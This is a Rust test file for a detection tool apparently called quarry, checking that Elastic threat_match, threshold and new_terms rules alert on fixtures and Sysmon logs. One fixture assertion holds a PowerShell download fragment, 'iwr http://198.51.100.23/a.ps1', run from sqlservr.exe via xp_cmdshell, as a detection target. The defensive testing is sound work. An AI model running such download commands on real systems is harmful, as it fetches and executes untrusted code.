//! `quarry hunt` with Elastic's aggregating and enriching rule types, end
//! to end on small fixtures (`tests/fixtures/`, records shaped as real
//! ones) and on real events of `../shared`: `threat_match` with
//! `--threat-intel`, `threshold`, `new_terms`, and `quarry rules list`'s
//! per-type table.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn quarry(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_quarry"))
        .args(args)
        .env_remove("QUARRY_RULES")
        .output()
        .expect("run quarry")
}

fn shared() -> PathBuf {
    std::env::var_os("QUARRY_CORPUS")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared")))
}

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
}

fn alerts(o: &Output) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("an alert per line"))
        .collect()
}

fn s(p: &Path) -> &str {
    p.to_str().expect("a UTF-8 path")
}

/// Elastic's "Threat Intel IP Address Indicator Match" over the real
/// Sysmon sample in which mshta.exe connects to 108.179.232.58 and
/// 105.73.6.112/105: the indicator file (AbuseCH-shaped documents) names
/// the first (fresh), the second (more than 30 days older than the newest
/// indicator, so `threat_query`'s `now-30d/d` leaves it out) and the third
/// (a document that is no enrichment, which `threat_filters` leave out).
#[test]
#[ignore = "needs ../shared"]
fn threat_match_enriches_the_alert_with_the_indicator() {
    let rule =
        shared().join("rules/elastic/rules/threat_intel/threat_intel_indicator_match_address.toml");
    let evtx = shared().join(
        "corpus/evtx/sbousseaden/Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx",
    );
    let intel = fixture("threat-intel.ndjson");
    // without indicators the rule is skipped, and says why
    let out = quarry(&["rules", "list", "--rules", s(&rule)]);
    let listed = String::from_utf8_lossy(&out.stdout);
    assert!(
        listed.contains("threat_match without indicators (--threat-intel FILE)"),
        "{listed}"
    );
    let out = quarry(&["hunt", "--rules", s(&rule), "--format", "ndjson", s(&evtx)]);
    assert!(alerts(&out).is_empty());
    assert!(String::from_utf8_lossy(&out.stderr).contains("0 rules loaded, 1 skipped"));
    let out = quarry(&[
        "hunt",
        "--rules",
        s(&rule),
        "--threat-intel",
        s(&intel),
        "--format",
        "ndjson",
        s(&evtx),
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("4 indicator documents read"), "{err}");
    let a = alerts(&out);
    assert_eq!(a.len(), 1, "{err}");
    assert_eq!(a[0]["destination"]["ip"], "108.179.232.58");
    assert_eq!(a[0]["process"]["name"], "mshta.exe");
    let e = &a[0]["threat"]["enrichments"];
    assert_eq!(e.as_array().map(Vec::len), Some(1), "{e}");
    assert_eq!(e[0]["matched"]["field"], "destination.ip");
    assert_eq!(e[0]["matched"]["atomic"], "108.179.232.58");
    assert_eq!(e[0]["matched"]["type"], "indicator_match_rule");
    assert_eq!(e[0]["matched"]["index"], "ti_abusech.url");
    assert!(
        e[0]["matched"]["id"]
            .as_str()
            .is_some_and(|i| i.ends_with("threat-intel.ndjson:1"))
    );
    assert_eq!(e[0]["indicator"]["ip"], "108.179.232.58");
    assert_eq!(e[0]["indicator"]["confidence"], "High");
    assert_eq!(e[0]["feed"]["name"], "AbuseCH URL");
    // an indicator file that does not exist is a usage error
    let out = quarry(&[
        "hunt",
        "--rules",
        s(&rule),
        "--threat-intel",
        "/nonexistent/intel.ndjson",
        s(&evtx),
    ]);
    assert_eq!(out.status.code(), Some(2));
}

/// The rule's alerts on one evidence file, as (time, alert) pairs.
fn hunt(rule: &Path, evidence: &Path, extra: &[&str]) -> (Vec<serde_json::Value>, String) {
    let mut args = vec!["hunt", "--rules", s(rule), "--format", "ndjson"];
    args.extend_from_slice(extra);
    args.push(s(evidence));
    let out = quarry(&args);
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "{err}");
    (alerts(&out), err)
}

/// A burst of twelve failed logons (Security 4625, shaped as quarry maps
/// the real record of hayabusa-mitre's OpenSSH brute-force sample) five
/// seconds apart crosses a threshold of 10 per host with 5 distinct users
/// in the 9-minute look-back: one alert, on the burst's last event, with
/// Elastic's `threshold_result`. The same twelve two minutes apart never
/// put more than five in one look-back: no alert.
#[test]
fn threshold_burst_of_failed_logons_crosses_and_a_thin_spread_does_not() {
    let rule = fixture("rules/failed_logons_threshold.toml");
    let (a, err) = hunt(&rule, &fixture("failed-logons-burst.ndjson"), &[]);
    assert_eq!(a.len(), 1, "{err}");
    let r = &a[0]["kibana"]["alert"]["threshold_result"];
    assert_eq!(r["count"], 12);
    assert_eq!(r["from"], "2021-05-20T12:49:52.315Z");
    assert_eq!(r["terms"][0]["field"], "host.id");
    assert_eq!(
        r["terms"][0]["value"],
        "64514f07-972c-58b2-bc06-5cfc274ae23d"
    );
    assert_eq!(r["cardinality"][0]["field"], "user.name");
    assert_eq!(r["cardinality"][0]["value"], 12);
    assert_eq!(a[0]["@timestamp"], "2021-05-20T12:50:47.315Z");
    let (a, err) = hunt(&rule, &fixture("failed-logons-thin.ndjson"), &[]);
    assert!(a.is_empty(), "{err}");
    assert!(err.contains("12 events"), "{err}");
}

/// Elastic's "Execution of an Unsigned Service" (a new_terms building
/// block over Elastic Defend process starts: host, executable, user, five
/// days of history) on process starts shaped as the endpoint package's
/// sample event: the vendor agent's unsigned service, seen six and three
/// days before, does not alert again; PsExec's service, first seen, does.
/// Without the six-day-old event the evidence holds less than the five
/// days the rule asks for: no alert, unless `--new-terms-history partial`.
#[test]
#[ignore = "needs ../shared"]
fn new_terms_first_seen_service() {
    let rule = shared()
        .join("rules/elastic/rules_building_block/execution_unsigned_service_executable.toml");
    let evidence = fixture("service-installs.ndjson");
    let (a, err) = hunt(&rule, &evidence, &[]);
    assert_eq!(a.len(), 1, "{err}");
    assert_eq!(a[0]["process"]["executable"], r"C:\Windows\PSEXESVC.exe");
    assert_eq!(a[0]["kibana"]["alert"]["building_block_type"], "default");
    assert_eq!(
        a[0]["kibana"]["alert"]["new_terms"],
        serde_json::json!([
            "d2e8c0a1-7f2b-4c55-9a3e-1b6f0e4d9c10",
            r"C:\Windows\PSEXESVC.exe",
            "S-1-5-18"
        ])
    );
    assert_eq!(a[0]["quarry"]["new_terms"]["history_complete"], true);
    // less history than the rule asks for
    let dir = tempfile::Builder::new()
        .prefix("quarry-rule-types-")
        .tempdir()
        .expect("temp dir");
    let short = dir.path().join("service-installs-short.ndjson");
    let text = std::fs::read_to_string(&evidence).expect("fixture");
    std::fs::write(&short, text.lines().skip(1).collect::<Vec<_>>().join("\n")).expect("write");
    let (a, err) = hunt(&rule, &short, &[]);
    assert!(a.is_empty(), "{err}");
    // with what history there is, the agent's first start in it is a
    // first sighting too, and each alert says the history was partial
    let (a, err) = hunt(&rule, &short, &["--new-terms-history", "partial"]);
    let exes: Vec<&str> = a
        .iter()
        .filter_map(|x| x["process"]["executable"].as_str())
        .collect();
    assert_eq!(
        exes,
        [
            r"C:\Program Files\Acme\AcmeAgent\acmesvc.exe",
            r"C:\Windows\PSEXESVC.exe"
        ],
        "{err}"
    );
    assert!(
        a.iter()
            .all(|x| x["quarry"]["new_terms"]["history_complete"] == false)
    );
}

/// Elastic's "Execution via MSSQL xp_cmdshell Stored Procedure" (new_terms
/// on host and command line, seven days of history): a sqlservr.exe →
/// cmd.exe pair whose command the DBA's job ran eight and four days before
/// does not alert; the same pair running a first-seen download does.
#[test]
#[ignore = "needs ../shared"]
fn new_terms_first_seen_parent_child_pair() {
    let rule = shared().join(
        "rules/elastic/rules/windows/persistence_via_xp_cmdshell_mssql_stored_procedure.toml",
    );
    let (a, err) = hunt(&rule, &fixture("xp-cmdshell.ndjson"), &[]);
    assert_eq!(a.len(), 1, "{err}");
    assert_eq!(a[0]["process"]["parent"]["name"], "sqlservr.exe");
    assert!(
        a[0]["process"]["command_line"]
            .as_str()
            .is_some_and(|c| c.contains("iwr http://198.51.100.23/a.ps1")),
        "{}",
        a[0]["process"]
    );
    assert_eq!(
        a[0]["quarry"]["new_terms"]["history_from"],
        "2024-03-05T09:33:00.000Z"
    );
}

/// The row of `type` in `quarry rules list`'s table: runnable, skipped,
/// why.
fn table_row(listing: &str, ty: &str) -> Option<(usize, usize, String)> {
    let table = listing.split("\ntype ").nth(1)?;
    table.lines().find_map(|l| {
        let rest = l.strip_prefix(ty)?.trim_start();
        let mut it = rest
            .splitn(3, char::is_whitespace)
            .filter(|x| !x.is_empty());
        let runnable = it.next()?.parse().ok()?;
        let rest = rest.split_once(char::is_whitespace)?.1.trim_start();
        let (skipped, why) = rest.split_once(char::is_whitespace).unwrap_or((rest, ""));
        Some((
            runnable,
            skipped.trim().parse().ok()?,
            why.trim().to_string(),
        ))
    })
}

#[test]
fn rules_list_prints_a_table_per_type() {
    let out = quarry(&["rules", "list", "--rules", s(&fixture("rules"))]);
    let listing = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        table_row(&listing, "threshold (kuery)"),
        Some((1, 0, String::new())),
        "{listing}"
    );
    assert_eq!(
        table_row(&listing, "total"),
        Some((1, 0, String::new())),
        "{listing}"
    );
}

/// Over both of Elastic's folders: every rule type with what runs and why
/// the rest is skipped. As shipped: 1,024 EQL, 446 KQL query, 241
/// new_terms, 27 threshold, the 9 rules Elastic ships with
/// `enabled = false` skipped with that reason; with `--include-disabled`
/// the issue's count, 454 query and 28 threshold; threat_match only with
/// indicators; ES|QL and machine learning never.
#[test]
#[ignore = "needs ../shared"]
fn rules_list_table_over_elastics_rules() {
    let rules = shared().join("rules/elastic/rules");
    let bb = shared().join("rules/elastic/rules_building_block");
    let out = quarry(&["rules", "list", "--rules", s(&rules), "--rules", s(&bb)]);
    let listing = String::from_utf8_lossy(&out.stdout);
    let row = |t: &str| table_row(&listing, t).unwrap_or_else(|| panic!("no row {t}: {listing}"));
    assert_eq!(row("eql"), (1024, 57, "deprecated: 57".into()));
    assert_eq!(
        row("query (kuery)"),
        (
            446,
            61,
            "deprecated: 53, disabled as shipped (--include-disabled): 8".into()
        )
    );
    assert_eq!(row("new_terms (kuery)"), (241, 4, "deprecated: 4".into()));
    assert_eq!(
        row("threshold (kuery)"),
        (
            27,
            4,
            "deprecated: 3, disabled as shipped (--include-disabled): 1".into()
        )
    );
    assert_eq!(row("query (lucene)"), (0, 1, "deprecated: 1".into()));
    assert_eq!(
        row("machine_learning"),
        (0, 106, "type machine_learning: 106".into())
    );
    assert_eq!(
        row("esql"),
        (0, 212, "deprecated: 3, type esql (esql): 209".into())
    );
    let tm = row("threat_match (kuery)");
    assert_eq!((tm.0, tm.1), (0, 9));
    assert!(
        tm.2.contains("threat_match without indicators (--threat-intel FILE): 6"),
        "{}",
        tm.2
    );
    let out = quarry(&[
        "rules",
        "list",
        "--include-disabled",
        "--rules",
        s(&rules),
        "--rules",
        s(&bb),
    ]);
    let listing = String::from_utf8_lossy(&out.stdout);
    let row = |t: &str| table_row(&listing, t).unwrap_or_else(|| panic!("no row {t}: {listing}"));
    assert_eq!(row("eql").0, 1024);
    assert_eq!(row("query (kuery)"), (454, 53, "deprecated: 53".into()));
    assert_eq!(row("new_terms (kuery)").0, 241);
    assert_eq!(row("threshold (kuery)"), (28, 3, "deprecated: 3".into()));
    let intel = fixture("threat-intel.ndjson");
    let out = quarry(&[
        "rules",
        "list",
        "--rules",
        s(&rules),
        "--rules",
        s(&bb),
        "--threat-intel",
        s(&intel),
        "--include-disabled",
    ]);
    let listing = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        table_row(&listing, "total").map(|r| r.0),
        Some(1024 + 454 + 241 + 28 + 6),
        "{listing}"
    );
    assert_eq!(
        table_row(&listing, "threat_match (kuery)"),
        Some((6, 3, "deprecated: 3".into()))
    );
}

/// A rule Elastic ships with `enabled = false` (the onboarding sample
/// "My First Rule": threshold 1 on `event.kind:event` by `host.name`) is
/// skipped by `hunt` and says why; `--include-disabled` runs it, and it
/// raises its one threshold alert per host.
#[test]
#[ignore = "needs ../shared"]
fn disabled_rules_run_only_when_asked() {
    let rule =
        shared().join("rules/elastic/rules/cross-platform/guided_onboarding_sample_rule.toml");
    let evtx = shared().join(
        "corpus/evtx/sbousseaden/Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx",
    );
    let out = quarry(&["hunt", "--rules", s(&rule), "--format", "ndjson", s(&evtx)]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(alerts(&out).is_empty(), "{err}");
    assert!(err.contains("0 rules loaded, 1 skipped"), "{err}");
    let out = quarry(&["rules", "list", "--rules", s(&rule)]);
    let listed = String::from_utf8_lossy(&out.stdout);
    assert!(
        listed.contains("disabled as shipped (--include-disabled) — My First Rule"),
        "{listed}"
    );
    let out = quarry(&[
        "hunt",
        "--include-disabled",
        "--rules",
        s(&rule),
        "--format",
        "ndjson",
        s(&evtx),
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    let a = alerts(&out);
    assert!(!a.is_empty(), "{err}");
    assert!(
        a.iter()
            .all(|x| x["kibana"]["alert"]["rule"]["name"] == "My First Rule"),
        "{a:?}"
    );
    assert!(
        a.iter()
            .all(|x| x["kibana"]["alert"]["threshold_result"]["count"].as_u64() >= Some(1))
    );
}
